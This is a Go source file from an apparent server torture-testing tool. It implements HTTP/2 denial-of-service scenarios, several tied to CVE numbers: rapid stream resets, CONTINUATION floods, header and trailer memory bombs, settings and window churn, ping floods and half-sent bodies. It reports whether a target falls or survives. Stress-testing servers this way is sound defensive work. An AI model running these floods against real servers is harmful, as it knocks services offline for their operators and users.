package torture

import (
	"bytes"
	"cmp"
	"context"
	"fmt"
	"maps"
	"math"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// http2Scenarios attack HTTP/2.
var http2Scenarios = []Scenario{
	storm{what: "streams", more: rapidResets}.named("h2-rapid-reset", "Streams are opened and reset at once (CVE-2023-44487)."),
	storm{what: "streams", more: madeResets}.named("h2-made-you-reset", "Streams are opened and broken, so that the server resets them (CVE-2025-8671)."),
	storm{what: "frames", endless: true, more: continuations}.named("h2-continuations", "Heads have no end, in CONTINUATION frames, full and empty (CVE-2023-45288)."),
	storm{what: "streams", clients: 3, settings: shut, more: bombs}.named("h2-header-bomb", "Three clients send heads that are small on the wire and large in memory, and take no answers (CVE-2026-49975)."),
	storm{what: "changes", settings: shut, halfDeaf: true, more: changes}.named("h2-settings-churn", "Settings and windows change while many answers wait for room (CVE-2026-78669)."),
	storm{what: "frames", halfDeaf: true, more: pings}.named("h2-ping-flood", "Pings, settings, priorities and empty DATA; half of the clients read nothing."),
	storm{what: "frames", settings: shut, endless: true, more: trailers}.named("h2-trailers", "Trailers have no end, or are small on the wire and large in memory (CVE-2026-78659)."),
	storm{what: "requests", more: tableSizes}.named("h2-table-size", "The size of the header table changes late, while answers are encoded, and within heads (CVE-2026-97032)."),
	{Name: "h2-malformed", Kinds: HTTP, HTTP2: true, Attack: malformed2, Title: "Malformed requests that smuggle others through proxies, and CONNECT."},
	{Name: "h2-half-bodies", Kinds: HTTP, HTTP2: true, Waits: true, Attack: halfBodies, Title: "Hundreds of streams on each connection send three bytes of their bodies, and no more."},
}

const (
	stormPeers     = 8
	stormConns     = 20 // of one client, one after the other, as the server ends them
	stormBlock     = 32 << 10
	defaultStreams = 100 // at once, where the server sets no limit
	mostOpened     = 250
	defaultList    = 1 << 20   // of a head, where the server sets no limit
	stormGrown     = 200 << 20 // bytes of memory, for a fall
	cancelCode     = 8
)

var shut = []uint32{windowSize, 0} // no answer gets through

// breaker is a connection of a client that keeps to no rule.
type breaker struct {
	*Conn
	packer
	frames
	good    []field
	out     []byte // frames to be sent
	stream  uint32 // of the last request
	peer    int    // the number of its client
	units   int    // of what the attack counts
	streams int    // that the server allows at once
	list    int    // size of a head that the server allows, as it counts

	over  atomic.Bool     // the server has ended the connection
	how   string          // it did
	ended map[uint32]bool // streams, by the server
}

// breaker opens a connection and learns the server's settings.
func (a *Arena) breaker(ctx context.Context, peer int, pairs ...uint32) (*breaker, error) {
	c, err := a.Open(ctx, (*target).HTTP2)
	if err != nil {
		return nil, err
	}
	h := &breaker{Conn: c, peer: peer, streams: defaultStreams, list: defaultList, ended: map[uint32]bool{}}
	h.good, _ = a.target.fields(a.target.Target)
	h.pack()
	h.stream--
	if err = c.SetDeadline(c.within(a.Answer)); err == nil {
		_, err = c.Write(settings(pairs...).append([]byte(preface)))
	}
	if err == nil && !h.listen(h.learn) {
		err = errNoHTTP2
	}
	h.add(frame{settingsFrame, ackFlag, 0, nil})
	return h, err
}

// learn reads the server's settings, and reports whether they have come.
func (h *breaker) learn(e event) bool {
	for at := 0; e.kind == settingsFrame && at+6 <= len(e.payload); at += 6 {
		switch id, n := e.number(at)>>16, int(min(e.number(at+2), math.MaxInt32)); id {
		case tableSize:
			h.enc.SetMaxDynamicTableSizeLimit(uint32(n))
		case mostStreams:
			h.streams = n
		case listSize:
			h.list = min(n, defaultList)
		}
	}
	return e.kind == settingsFrame
}

func (h *breaker) add(f frame) { h.out = f.append(h.out) }

// ask adds a request on a new stream, with more fields. What ends with them is in flags.
func (h *breaker) ask(flags byte, more ...field) {
	h.stream += 2
	h.add(frame{headersFrame, flags, h.stream, h.pack(slices.Concat(h.good, more)...)})
}

// large adds a head, or a trailer, of fields and of those that take a byte each and fill most of what the
// server allows.
func (h *breaker) large(flags byte, fields ...field) {
	const each = 32 + 2 // as lists count
	one := field{Name: "x", Value: "y"}
	block := bytes.Clone(h.pack(append(fields, one, one)...))
	block = append(block, bytes.Repeat(block[len(block)-1:], max(1, (h.list-4096)*9/10/each))...)
	f := frame{headersFrame, flags, h.stream, nil}
	for part := range slices.Chunk(block, mostFrame) {
		f.payload = part
		h.add(f)
		f.kind, f.flags = continuationFrame, 0
	}
	h.add(frame{continuationFrame, endHeaders, h.stream, nil})
}

// fill adds units until there is a block.
func (h *breaker) fill(add func()) {
	for len(h.out) < stormBlock {
		add()
		h.units++
	}
}

// listen notes what the server sends, until it is enough, or until the deadline.
func (h *breaker) listen(enough func(event) bool) bool {
	for err := error(nil); ; {
		for used := 1; used > 0 && err == nil; {
			var e event
			e, used, err = h.cut(h.in)
			if h.in = h.in[used:]; e.kind == goAwayFrame {
				h.how = e.code(4)
				h.over.Store(true)
			}
			if e.ends {
				h.ended[e.stream] = true
			}
			if used > 0 && enough(e) {
				return true
			}
		}
		if err != nil {
			if !isTimeout(err) {
				h.how = cmp.Or(h.how, "without a word")
				h.over.Store(true)
			}
			return false
		}
		h.in = slices.Grow(bytes.Clone(h.in), readSize)
		var n int
		n, err = h.Conn.Conn.Read(h.in[len(h.in):cap(h.in)])
		h.in = h.in[:len(h.in)+n]
	}
}

// storm is an attack of several clients that send something over and over, on a new connection when the
// server has ended one.
type storm struct {
	what     string // the units, in the plural
	clients  int    // zero: stormPeers
	settings []uint32
	halfDeaf bool           // every other client reads nothing
	endless  bool           // a server that takes all of it has no limit
	more     func(*breaker) // adds more; nothing: that is all, and what is sent is left standing
}

func (s storm) named(name, title string) Scenario {
	return Scenario{Name: name, Title: title, Kinds: HTTP, HTTP2: true, Attack: s.attack}
}

// stormed is what became of all clients.
type stormed struct {
	mu                 sync.Mutex
	units, most, ended int             // connections that the server has ended
	hows               map[string]bool // it did
	whole              bool            // it took all, on a connection
}

func (s storm) attack(ctx context.Context, a *Arena) Finding {
	watched := a.Server.follow(ctx, a.Limits)
	storming, cancel := context.WithTimeout(ctx, a.Within/2)
	defer cancel()
	n, made := cmp.Or(a.Peers, s.clients, stormPeers), stormed{hows: map[string]bool{}}
	err := cmp.Or(atOnce(n, func(i int) error { return s.client(storming, a, i%stormPeers, &made) })...)
	words := fmt.Sprintf("%d clients sent %d %s, %d at most on a connection", n, made.units, s.what, made.most)
	if made.ended > 0 {
		words += fmt.Sprintf("; the server ended %d connections (%s)", made.ended, strings.Join(slices.Sorted(maps.Keys(made.hows)), ", "))
	}
	used := watched()
	if used != nil {
		words += fmt.Sprintf("; it took %s of memory and %s of CPU", size(used.Grown), elapsed(time.Duration(used.CPU*1e9)))
	}
	switch {
	case used != nil && used.Grown >= stormGrown:
		return falls("%s", words)
	case made.units == 0:
		return unknown("nothing was sent: %v", err)
	case s.endless && made.whole:
		return unknown("no limit up to then: %s", words)
	}
	return survives("%s", words)
}

// client is one client of a storm.
func (s storm) client(ctx context.Context, a *Arena, peer int, made *stormed) error {
	for range stormConns {
		h, err := a.breaker(ctx, peer, s.settings...)
		if err != nil {
			return err
		}
		whole := s.one(ctx, a, h)
		h.Close()
		made.mu.Lock()
		made.units, made.most = made.units+h.units, max(made.most, h.units)
		over := h.over.Load()
		if over {
			made.ended++
			made.hows[h.how] = true
		}
		made.whole = made.whole || whole && !over && peer%4 > 0 // the others send empty frames, of which nothing has to be kept
		made.mu.Unlock()
		if !over {
			break
		}
	}
	return nil
}

// one is what a client does on one connection. It reports whether it has sent all.
func (s storm) one(ctx context.Context, a *Arena, h *breaker) bool {
	var reading sync.WaitGroup
	sent, most, err := 0, int(a.Bytes/stormPeers), h.SetDeadline(h.within(a.Within/2+a.Answer))
	if !s.halfDeaf || h.peer%2 == 0 {
		reading.Go(func() { h.listen(func(event) bool { return false }) })
	}
	for err == nil && ctx.Err() == nil && sent < most && !h.over.Load() {
		if s.more(h); len(h.out) == 0 {
			break
		}
		var n int
		n, err = h.Write(h.out)
		sent, h.out = sent+n, h.out[:0]
	}
	pause(ctx, a.Answer)                   // for what the server has not read yet, and its end
	_ = h.SetReadDeadline(time.Unix(1, 0)) // fails only if it is closed
	reading.Wait()
	return sent >= most
}

func rapidResets(h *breaker) {
	h.fill(func() {
		h.ask(endHeaders | endStream)
		h.add(numbered(resetFrame, h.stream, cancelCode))
	})
}

// madeResets break streams, each client in its own way.
func madeResets(h *breaker) {
	h.fill(func() {
		way := h.peer % 4
		if way == 0 {
			h.ask(endHeaders, field{Name: "content-length", Value: "1"})
			h.add(frame{dataFrame, endStream, h.stream, []byte("longer")})
			return
		}
		h.ask(endHeaders | endStream)
		h.add([]frame{1: numbered(windowFrame, h.stream, mostWindow), 2: numbered(windowFrame, h.stream, 0), 3: {dataFrame, 0, h.stream, []byte("x")}}[way])
	})
}

// continuations add to a head, or add nothing.
func continuations(h *breaker) {
	if h.units == 0 {
		h.ask(endStream)
	}
	h.fill(func() {
		f := frame{continuationFrame, 0, h.stream, nil}
		if h.peer%4 > 0 {
			f.payload = h.pack(field{Name: fmt.Sprintf("x-%d", h.units), Value: strings.Repeat("a", 8000), Sensitive: true})
		}
		h.add(f)
	})
}

// bombs are one for each stream, up to those that the server allows.
func bombs(h *breaker) {
	if h.units < min(h.streams, mostOpened) {
		h.stream += 2
		h.large(0, slices.Clone(h.good)...) // its handler may wait for a body
		h.units++
	}
}

// changes let the answers of many streams have a byte now and then.
func changes(h *breaker) {
	for h.units == 0 && int(h.stream+1)/2 < min(h.streams, mostOpened) {
		h.ask(endHeaders | endStream)
	}
	h.fill(func() {
		h.add(settings(windowSize, uint32(h.units%2)))
		h.add(numbered(windowFrame, 0, 1))
		h.add(numbered(windowFrame, uint32(h.units)%h.stream|1, 1))
	})
}

// pings cost the server an answer each, or at least a look.
func pings(h *breaker) {
	if h.units == 0 {
		h.ask(endHeaders)
	}
	h.fill(func() {
		h.add([]frame{{pingFrame, 0, 0, []byte("12345678")}, settings(), {priorityFrame, 0, h.stream, []byte{0, 0, 0, 0, 1}}, {dataFrame, 0, h.stream, nil}}[h.peer/2])
	})
}

// trailers have no end, or are large, on as many streams as the server allows.
func trailers(h *breaker) {
	switch {
	case h.peer%4 == 1:
		if h.units == 0 {
			h.ask(endHeaders)
			h.stream -= 2 // for the head that is the trailer
			h.good = nil
		}
		continuations(h)
	case h.units < min(h.streams, mostOpened):
		h.ask(endHeaders, field{Name: "trailer", Value: "x"})
		h.large(endStream)
		h.units++
	}
}

// tableSizes change while answers are encoded, and within heads.
func tableSizes(h *breaker) {
	h.fill(func() {
		h.ask(endHeaders|endStream, field{Name: "x", Value: fmt.Sprint(h.units % 100)})
		h.enc.SetMaxDynamicTableSize(uint32(h.units % 2 * 4096)) // which the next head begins with
		for i := range 3 {
			h.add(settings(tableSize, uint32((h.units+i)%2*4096)))
		}
	})
}

// halfBodies waits until the server has ended streams whose bodies do not go on.
func halfBodies(ctx context.Context, a *Arena) Finding {
	var sent, open atomic.Int64
	began := time.Now()
	errs := atOnce(a.Few, func(i int) error {
		h, err := a.breaker(ctx, i)
		if err != nil {
			return err
		}
		defer context.AfterFunc(ctx, func() { h.Close() })()
		n := min(h.streams, mostOpened)
		for range n {
			h.ask(endHeaders, field{Name: "content-length", Value: "100"})
			h.add(frame{dataFrame, 0, h.stream, []byte("abc")})
		}
		if err = h.SetDeadline(h.within(a.Wait + a.Wait/50)); err == nil {
			_, err = h.Write(h.out)
		}
		sent.Add(int64(n))
		h.listen(func(event) bool { return len(h.ended) == n })
		if !h.over.Load() {
			open.Add(int64(n - len(h.ended)))
		}
		return err
	})
	if err := cmp.Or(errs...); err != nil {
		return unknown("%s", plain(err))
	}
	if n := open.Load(); n > 0 {
		return unknown("%d of %d half bodies on %d connections are still open after %v: no limit up to then", n, sent.Load(), a.Few, a.Wait)
	}
	return survives("answered, reset or closed %d half bodies on %d connections within %s", sent.Load(), a.Few, elapsed(time.Since(began)))
}
